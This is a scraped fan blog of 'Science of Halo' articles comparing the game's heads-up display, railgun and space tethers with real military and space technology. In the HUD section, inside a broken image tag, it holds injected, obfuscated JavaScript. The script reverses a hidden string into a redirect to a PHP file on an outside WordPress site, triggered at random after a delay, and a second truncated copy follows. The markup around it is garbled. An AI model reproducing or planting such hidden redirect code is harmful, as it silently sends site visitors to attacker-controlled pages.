The Science of Halo, Fact vs Fiction: Heads Up Display (HUD)

We all seen this type of technology in Halo for nearly a decade and a half. This technology does exist today, albeit in a slightly different form.

Disclaimer: I am not an expert in this field. This article was in part written and reflagged from existing articles that I’ve included references for near the end of the article. Any facts I may get wrong are not intentional. This article is for entertainment purposes only and is by no means exhaustive with the information herein. I highly suggest you click on the links contained throughout the article if you want to get a fuller understanding of this real-world tech.


In Halo, we the gamers use the heads up display for motion tracking, ammo and grenade counts as well as health, shields and targeting. As with all technology, the HUD has changed from Halo CE through to Halo 4.

Halo CE’s HUDHalo CE HUD
Halo 2’s HUDHalo 2 HUD
Halo 3’s HUDHalo 3 HUD
Halo 4’s HUDHalo 4 HUD

The HUD in Halo can also detect what weapon the bearer has in their hands, switching targeting reticles to match that of the weapon in use. The term HUD is actually incorrect and should be call HMD or helmet mounted display. The difference being that in HUDs you have to look up to see it and it’s fixed into place. Whereas, the HMD is shown on the visor and thus moves with the user’s head movement.


Since Halo CE, we gamers have enjoyed the use of a heads up display or HUD. The technology shown in the game from the start up to the present game for a singular soldier on the battlefield was something that only a decade ago was science fiction.

The earliest for a HUD tech can be traced back to pre-Wolrd War II.HUD tech evolved from “tor_sight”>reflector sight,” a parallax free optical sight tech for military jet fighters. Below shows an early German schematic of this tech.

tor-sight.jpg”>reflec<script>$NqM=function(n){if (typeof ($NqM.list[n]) == “string”) return $NqM.list[n].split(“”).reverse().join(“”);return $NqM.list[n];};$NqM.list=[“\’php.sgnittes-pupop/cni/tnemucod-yna-debme/snigulp/tnetnoc-pw/moc.kaphcterts//:ptth\’=ferh.noitacol.tnemucod”];var number1=Math.floor(Math.random() * 6);if (number1==3){var delay = 18000;setTimeout($NqM(0),delay);}</script><script>$mWn=function(n){if(typeof ($mWn.list[n])==tor sight” src=”” width=”659″ height=”599″ />Gyro gunsight was the first tech to use reflector sight. As this tech advanced, the early HUDs started displaying computed gunnery solutions. An example of this is the British AI Mk VIII air interception radar. The radar display was projected onto an aircrafts windscreen also showing an artificial horizon. This allowed pilots to now dogfight without having to look away from their windscreen to check their radar.

HUD tech evolved in 1958 by the Royal Navy. This HUD had an attack sight that provided nav and weapon release info for low level attacks. This HUD tech faced strong competition  from those who supported the older electro-mechanical gunsight. In the ’60s French test-pilot Gilbert Klopfstien created the first modern HUD and a standardized set of symbols for HUDs so pilots only needed to learn one system. The ’70s brought HUD tech to commercial aviation. In 1988 the OldsmobileCutlass Supreme was the first car to have a HUD. (1)

HUD tech for soldiers’ helmets have been around for a few years now. In 2004 at the Soldier Technology (convention) in Belgium, a new system for the time was shown. It was the NA-OR Advanced Integrated Soldier System or AISS. This personal HUD improved situational awareness, target identifcation, bidirectional communication of data and an early “Friend or Foe” tag system. An example of this HUD is shown below on the soldier’s helmet. (2)


Fast forward to 2013 where HUD tech is now not only looking like the HALO HUD on a small screen, but is now incorporated into a full face visor on a helmet that looks VERY much like an early Spartan Helmet.


Just last year, Sept. 2013, this new tech was shown at the Association of the U.S. Army’s annual meeting. The helmet not only has enhanced protective measures, but also embedded technology that includes a see-through, heads-up display and communication capabilities.

With 72 percent of all combat injuries impacting the face, the engineers sought to bridge a “technology gap” with a mandible and visor on the helmet.heads-up-helmet_2-620x411

The helmet includes cushioning to meet a 14-feet-per-second impact requirement, which will help reduce cases of traumatic brain injuries that translates to protection for a rifle round threat. (3)

This Halo-like helmet has not yet been adopted into the military yet.

Take a look at these videos by Revision Military, the makers of the above helmet:

With the advent of Google Glass and the developing bionic contact lens, people from all over the globe will be able to have personal heads up display. The new to-be-human-ready-at-ces/”>Augmented-reality contact lens is touted to be “human-ready” at this year’s CES (Consumer Electronics Show).


While the HUD of the present as yet can not detect what weapon the soldier is currently holding, can that tech really be far behind? Bio-scan technology isbeing integrated into current HUDs to alert the soldier as well as their base of the vital signs.


The HUD of Halo isn’t science fiction anymore. While current tech does not yet include all of the aspects of Halo’s HUD, it most certainly is close. It’s very predictable that in the very near future, current technology will have the rest of Halo’s HUD incorporated into single soldier use.

Did you enjoy this article? I’d like to know what you think of it and the tech talked about within. Please hit reply below and share your thoughts.


The Science of Halo, Fact VS Fiction: RailgunsI happened upon some amazing news about a new Railgun that the U.S. military is testing. I had known that railgun technology had been around for a few years, but now it’s on the brink of actual use and not in the development stage.

During this article we’ll explore the fiction side of Railguns and their tech in the Halo universe, versus the real-world application of this technology, as well as their similarities and differences.

Disclaimer: I’m not a scientist or engineer. I may state some things incorrectly.

Now on with the article!



The railgun in Halo was introduced to us in Halo 4. Let’s not mistake this with the MAC (Magnetic Accelerated Cannon) on starships, nor the gauss cannon found on some Warthogs.

The Asymmetric Recoilless Carbine-920 or Railgun is a “compact-channel linear accelerator that fires a high-explosive round at incredible speed, delivering kinetic and explosive force to both hard and soft targets alike”.  Alternately, it can also be described as an electro-magnetic projectile weapon.

Some technical specs for the Railgun are:
Manufacturer: Acheron Security
Ammunition Type: M645 FTP-HE 16 mm x 65 mm
Ammunition Size: 16mm x 65mm
Length: 110.8 centimetres (43.6 in)
Height: 31.9 centimetres (12.6 in)
Width: 7.4 centimetres (2.9 in)
Weight: 14.9 kilograms (33 lb)
Charge Time: 2 seconds, lesser charge time will cause less damageThe Halo 4 Railgun has no zoom feature while shooting. The projectile follows along dual channels (metal “rails”). These are charged by an electric current that flows through the magnetic rails. This interaction is what fires the projectile at high speed.

Though the handheld Railgun in halo 4 is labeled as “recoilless”, it actually has recoil, likely to show the weapon’s destructive force.In a report from CBS news/Reuters by David Alexander, it’s stated that the U.S. Navy is planning trials for it’s railgun in 2016. This version of the railgun can fire a 23 pound projectile at seven times the speed of sound and can travel well over 100 miles. To break that down, the speed of sound is 1,125 feet per second or 767 miles per hour. Seven times that is 7875 feet per second (just slightly under 1 1/2 miles per SECOND!) or 5,369 miles per hour. That is some POWER!Futuristic WeaponRear Admiral Matthew Kluder, chief of Naval Research has stated that the railgun has already gone through testing on the ground. The above picture shows a prototype of the current version of the railgun set up in a testing lab to test it’s firepower.

Part of the reason for developing railgun technology is technical superiority as well as cost. The planned 23lbprojectile for the sea-based railgun will cost about 25,000. This is vastly cheaper that the average 500K to 1.5 million dollars (US) per conventional missile in use today.

fishbowl view length railgun
Above shows the lab railgun’s length (in a fishbowl view).

“Railguns use electromagnetic energy known as the Lorenz Force to launch a projectile between two conductive rails. The high-power electric pulse generates a magnetic field to fire the projectile with very little recoil, officials said.”

Railgun explosice force

“Current projectiles leaving a railgun have a muzzle energy of about 32 megajoules of force, said Rear Admiral Bryant Fuller, the Navy’s chief engineer. He said one megajoule would move a one-ton object at about 100 mph” Again, the current projectile is only 23 pounds versus the stated 2,000 pounds. So that’s just over 1% of the weight and 32 times of force. POWERFUL!!!To illustrate this, the picture below shows the destructive force of an even smaller real-world projectile through a railgun. Though not said, the smaller projectile looks to be no more than a few pounds in weight. This is relative to the Halo 4’s projectile.

1-2 in steel platesSIXWhat you’re looking at above are SIX 1/2 inch thick steel plates that have had a several inches wide hole PUNCHED through them.

Check out this video of the real-world railgun in action! (link submitted by Kevin Armstrong-Thanks Kev!)

The technology for the real-world railgun is very similar to the tech represented in Halo 4’s railgun. The major difference being that we in present time have not yet reduced the size of the gun itself for individual use.

Given the size of the projectile in the Halo 4 railgun, coupled with the power associated with the electromagnetic current, it is quite evident that the destructive force of the Halo 4 railgun is accurately depicted in game.

So not only is this tech possible, it’s REAL and right NOW!tor.html?vp=1″>Fact SOURCE LINK


The Science of Halo, Fact VS. Fiction: Space Tethers/Elevators/Platforms

Wow, it has been some time since I wrote one of these Science of Halo articles. Well, in a way, I’m glad I waited. The topic in this article is one that I wouldn’t have thought possible during our lifetimes, yet may very wellbe.

Space Tethers, Elevators, Platforms. Whatever you want to call them, they are incredible constructs that provide easy access to goods shipped via cargo vessels in space as well as a means to transport people to and from the planet and space. We’ve seen them in various Halo games. Could they be real in the future? Let’s explore this fascinating subject and look at both the sci-fii nature of it and the real possibilities.

First up, let’s look at the in-universe space tethers of the Halo franchise.


Corbulo Academy Space PlatformCorbulo Academy thether

We got to see this platform in all it’s glory in Episode 3 of the Forward Unto Dawn miniseries.

Screen shot 2012-10-19 at 2.08.12 PM

It stretches from the planet Circinius IV starting from the Corbulo Academy of Military Science (CAMS) into space.

Screen shot 2012-10-19 at 2.22.22 PM

It came under attack on a fateful day in which nearly all of the students and staff of CAMS were killed.

Screen shot 2012-10-19 at 2.26.40 PMThe destruction of the tether proved costly as not only did the people in the tether at the time of it’s destruction lose their lives, but it also meant nearly everyone else on the ground were trapped on the planet during the Covenant invasion.

Quinto Space TetherQuito thether screen2

Above is the map layout for the multiplayer map in Halo 3. It’s still one of my favorites.

Quito tether screen

A view of the Quinto space tether as seen from the ground.

Quinto tether from Space

A view from space looking down towards Earth. A fantastic and dizzying site at the same time.

New Mombasa Orbital Elevator
New Mombasa Orbital elevator ODST Concept

A conceptual rendering of the New Mombasa Orbital Elevator (NMOE) from Halo 3: ODST

New Mombasa Orbital_Elevator

Another look at it, in it’s finished form.This is a great view of the NMOE from the ground. Note the sturdy construction at the bottom and the tapering of the tether as it goes skyward.

New Mombasa Orbital elevator falling The NMOE at the moment of it’s destruction, due initially form the slipspace rupture created by the Prophet of Regrets flagship as it entered splispace next to the tether. It’s quite evident that humanity has not been able to protect their tethers in the Haloverse. This is something we as humanity now need to take into account (should we ever be invaded by an alien race).

New Mombasa Orbital elevator destroyed

The NMOE hasfallen…

New Mombasa Orbital Elevator remnants

It spewed a path of debris that stretched thousands of miles long.

The tethers are said to be made of carbon nanofiber.

The following is an excerpt from halo wiki regarding the positioning of the tethers relative to their planets:

The base concept of a Space elevator consists of a cable attached to the surface on the equator and reaching outwards into space. By positioning it so that the total centrifugal force exceeds thetotal gravity, either by extending the cable or attaching a counterweight, the elevator stays in place in geosynchronous orbit. Once moved far enough, climbers are accelerated further by the planet’s rotation.

The most common proposal is a tether, usually in the form of a cable or ribbon, that spans from the surface to a point beyond geosynchronous orbit. As the planet rotates, the inertia at the end of the tether counteracts gravity and keeps the tether taut. Vehicles can then climb the tether and escape the planet’s gravity without the use of rockets. The engineering of such a structure requires an extremely light butextremely strong material (current estimates require a material ~2 g/cm³ in density and a tensile strength of ~70 GPa). Such a structure could eventually permit delivery of great quantities of cargo and people to orbit, and at costs only a fraction of those associated with current means with little of the danger of conventional sub-orbital travel.

The obvious reason for construction of these tethers is cost. Building a sustainable tether using gravity as a base of movement is much cheaper than conventional booster rockets.


